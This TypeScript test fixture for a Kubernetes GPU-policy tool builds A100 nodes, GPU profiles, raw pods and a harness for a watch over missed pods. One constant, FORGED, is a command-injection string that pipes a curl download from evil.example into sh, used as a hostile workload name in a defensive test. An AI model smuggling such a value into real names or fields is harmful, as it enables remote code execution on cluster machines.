/** A cluster of two nodes, pods as the API server would store them, and a watch over those that missed us. */
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Document } from '../../policy/documents.ts';
import { object } from '../../policy/example.ts';
import type { Mode } from '../../core/decision.ts';
import { ClusterState } from '../cluster-state.ts';
import { inForceOf } from '../policy-store.ts';
import type { Raw } from '../raw.ts';
import { readFiles } from '../read-files.ts';
import { trimNamespace, trimNode } from '../seen.ts';
import { trimPod } from '../seen-pod.ts';
import { liveWorld } from '../world.ts';
import { missedWatch } from './missed-watch.ts';

const shipped = join(dirname(fileURLToPath(import.meta.url)), '../../../policies');
const catalogue = readFiles([join(shipped, 'catalogue')]).documents;

export const MIG = 'nvidia.com/mig-1g.10gb';
export const DECISION = 'tranche.dev/decision';

const node = (name: string, allocatable: object, mig: string) =>
  trimNode({
    metadata: {
      name,
      uid: name,
      labels: {
        'nvidia.com/gpu.product': 'NVIDIA-A100-SXM4-80GB',
        'nvidia.com/gpu.memory': '81920',
        'nvidia.com/mig.strategy': mig,
      },
    },
    status: {
      allocatable: { cpu: '64', memory: '512Gi', pods: '110', ...allocatable },
      conditions: [{ type: 'Ready', status: 'True' }],
    },
  });

/** A pod may call its owner anything, and a profile may call a workload that. */
export const FORGED = 'x;curl${IFS}evil.example|sh${IFS}#';

const KINDS = ['Deployment', 'StatefulSet', 'Job', 'Pod'];
const measured = [
  ...KINDS.map((kind) => [kind, 'whisper']),
  ['Job', FORGED],
  ['DaemonSet', FORGED],
];

/** What has been seen of `whisper`, whoever makes it, and of the forged; of others nothing is known. */
const profiles = measured.map(([kind = '', name = ''], i) =>
  object(
    'GpuProfile',
    `${kind.toLowerCase()}-${i}`,
    {
      workload: { kind, name },
      containers: [
        {
          name: 'main',
          revision: 'registry.example.com/whisper',
          measuredOn: 'A100-80GB',
          sharing: 'whole',
          attribution: 'exact',
          vramMaxMiB: 6000,
          smP95: 0.1,
          hours: 168,
          samples: 10_080,
        },
      ],
    },
    'speech',
  ),
);

export const documentsFor = (mode: Mode, sharing: object = {}): readonly Document[] => [
  ...catalogue,
  ...profiles,
  object('GpuPolicy', 'slices', {
    mode,
    sharing: { ladder: { default: ['mig'], unknown: ['mig'] }, ...sharing },
  }),
];

const setFor = (mode: Mode) => {
  const made = inForceOf(documentsFor(mode));
  if (!made.ok) throw new Error('no faults here');
  return made.inForce;
};

const sets = { observe: setFor('observe'), warn: setFor('warn'), enforce: setFor('enforce') };

export interface Written {
  readonly name: string;
  readonly uid?: string;
  readonly namespace?: string;
  readonly controller?: {
    readonly apiVersion: string;
    readonly kind: string;
    readonly name: string;
  };
  readonly labels?: object;
  readonly annotations?: object;
  readonly spec?: object;
  readonly resource?: string;
}

export function rawPod({ name, namespace = 'speech', controller, ...rest }: Written): Raw {
  const { uid = `uid-${name}`, labels, annotations, spec, resource = 'nvidia.com/gpu' } = rest;
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: {
      name,
      namespace,
      uid,
      resourceVersion: '1',
      creationTimestamp: '2026-11-21T09:00:00Z',
      ...(labels === undefined ? {} : { labels }),
      ...(annotations === undefined ? {} : { annotations }),
      ...(controller === undefined
        ? {}
        : {
            ownerReferences: [{ ...controller, uid: `uid-${controller.name}`, controller: true }],
          }),
    },
    spec: {
      containers: [
        {
          name: 'main',
          image: 'registry.example.com/whisper:1.0',
          resources: { limits: { [resource]: '1' }, requests: { [resource]: '1' } },
        },
      ],
      ...spec,
    },
    status: { phase: 'Pending' },
  };
}

export const replicaSet = (hash: string) => ({
  controller: { apiVersion: 'apps/v1', kind: 'ReplicaSet', name: `whisper-${hash}` },
  labels: { app: 'whisper', 'pod-template-hash': hash },
});

export function fleet(): ClusterState {
  const state = new ClusterState();
  state.applyNode(node('cards', { 'nvidia.com/gpu': '80' }, 'none'));
  state.applyNode(node('slices', { [MIG]: '28' }, 'mixed'));
  for (const name of ['speech', 'kube-system'])
    state.applyNamespace(trimNamespace({ metadata: { name, uid: name } }));
  return state;
}

interface Wanted {
  readonly mode?: Mode;
  readonly readsAtOnce?: number;
}

export function missing({ mode = 'enforce', readsAtOnce = 200 }: Wanted = {}) {
  const stored = new Map<string, Raw>();
  const state = fleet();
  const now = { mode, waits: [] as readonly string[], ms: Date.UTC(2026, 10, 21, 9), deaf: false };
  const source = liveWorld({
    policies: { current: () => sets[now.mode], missing: () => [] },
    cluster: state,
    missing: () => now.waits,
    clock: { now: () => now.ms },
    alive: true,
  });
  const told: string[] = [];
  let reads = 0;
  const watch = missedWatch({
    pods: () => state.pods(),
    source,
    aside: new Set(['kube-system']),
    readsAtOnce,
    async read(namespace, name) {
      reads++;
      if (now.deaf) throw new Error('the API server is away');
      return stored.get(`${namespace}/${name}`) ?? 'gone';
    },
    tell: (event, { pod = event, command, fault }) => told.push([pod, command ?? fault].join(': ')),
  });
  return {
    now,
    told,
    reads: () => reads,
    sawPass: (uid: string) => watch.sawPass(uid),
    put(raw: Raw): void {
      const { metadata } = trimPod(raw);
      stored.set(`${metadata.namespace}/${metadata.name}`, raw);
      state.applyPod(trimPod(raw));
    },
    drop(raw: Raw): void {
      const { metadata } = trimPod(raw);
      stored.delete(`${metadata.namespace}/${metadata.name}`);
      state.deletePod(trimPod(raw));
    },
    async look() {
      now.ms += 10_000;
      await watch.look();
      return watch.missed();
    },
  };
}
